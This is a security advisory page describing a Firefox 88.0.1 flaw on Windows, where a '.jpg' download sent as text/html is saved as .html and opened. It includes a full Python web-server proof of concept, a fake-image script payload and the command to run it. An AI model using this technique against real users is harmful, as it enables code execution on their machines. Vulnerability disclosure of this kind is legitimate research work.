Mozilla Firefox 88.0.1 File Extension Execution

Credit: Carlo Di Dato
Risk: Medium
Local: No
Remote: Yes

# Exploit Title: Mozilla Firefox 88.0.1 - File Extension Execution of Arbitrary Code # Date: 20/05/2021 # Exploit Authors: Carlo Di Dato and Michael Caruso from BestEffort Team ( # Vendor Homepage: # Version: <= 88.0.1 # Tested on: Windows XP Professional SP3 32-bit, Windows 7 Professional SP1 64-bit, Windows 10 20H2 (build SO 19042.805) # Blog: A vulnerability has been identified in the way Mozilla Firefox handles downloaded files on Windows. Unlike the other most used browsers (Google Chrome, Internet Explorer, Edge), the action Mozilla Firefox takes is based on the "Content-Type" attribute. Let's consider a scenario in which a server responds to the client in this way: Content-Type: audio/mpeg Content-Disposition: attachment; filename="test.jpg" What one would expect, is that Mozilla Firefox will handle the file as an image (.jpg) but it is not and the "open-with" window will ask the user to open a mp3 file. By itself, this is not a problem (although we do not agree with the choice), however we have found that in a particular circumstance, it is possible to "confuse" Firefox using a combination of "Content-Type" attribute and file extension which leads to the arbitrary execution of code. Specifically, if a server responds with a "Content-Type: text/html" and afilename that has the extension ".jpg", Mozilla Firefox will show the end user an "open-with" mask, asking to open the jpg file with the default program (usually a browser), but will download the above mentioned file into the system's temporary folder using the extension ".html".Subsequently, the downloaded file will be opened using the default program for .html files (browsers). It is easy to understand that it is possible to create a fake image, containing JavaScript code, which will lead to the execution of the code itself. As proof of concept, we used the following ready-made python web-server ( try: import http.server as BaseHTTPServer # Python 3.x except ImportError: import BaseHTTPServer # Python 2.x import os import shutil import sys FILEPATH = sys.argv[1] if sys.argv[1:] else __file__ class SimpleHTTPRequestHandler(BaseHTTPServer.BaseHTTPRequestHandler): def do_GET(self): with open(FILEPATH, 'rb') as f: self.send_response(200) #self.send_header("Content-Type", 'text/html') self.send_header("Content-Disposition", 'attachment;filename="{}"'.format(os.path.basename(FILEPATH))) fs = os.fstat(f.fileno()) self.send_header("Content-Length", str(fs.st_size)) self.end_headers() shutil.copyfileobj(f, self.wfile) def test(HandlerClass=SimpleHTTPRequestHandler, ServerClass=BaseHTTPServer.HTTPServer, protocol="HTTP/1.0"): if sys.argv[2:]: port = int(sys.argv[2]) else: port = 8000 server_address = ('', port) HandlerClass.protocol_version = protocol httpd = BaseHTTPServer.HTTPServer(server_address, HandlerClass) sa = httpd.socket.getsockname() print("Serving HTTP on {0[0]} port {0[1]} ... {1}".format(sa, FILEPATH)) httpd.serve_forever() if __name__ == '__main__': test() a fake jpeg (test.jpg) containing the following code: <script> alert("D'oh! This is not a jpeg file!!!"); </script> Then we ran the python script in this way: python test.jpg Once a user browse the malicious server, Mozilla Firefox will ask for opening the file and, if the user click confirms the operation, the file willbe downloaded and executed.

Vote for this issue:


Thanks foryou vote!


Thanks for you comment!
Your message is in quarantine 48hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }}CET+1
{{ x.comment }}

Copyright 2023,


Back to Top